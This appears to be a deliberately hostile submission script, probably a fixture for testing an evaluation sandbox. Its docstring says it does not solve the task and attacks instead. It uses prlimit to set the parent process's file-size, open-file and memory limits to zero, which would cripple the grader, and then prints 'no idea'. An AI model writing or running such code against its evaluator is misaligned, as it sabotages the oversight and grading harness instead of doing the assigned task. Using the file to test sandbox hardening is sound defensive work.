"""Does not solve the task, and attacks instead."""

import os
import resource


def attack():
    for limit in (resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_AS):
        try:
            resource.prlimit(os.getppid(), limit, (0, 0))
        except (OSError, ValueError):
            pass


if __name__ == "__main__":
    attack()
    print("no idea")
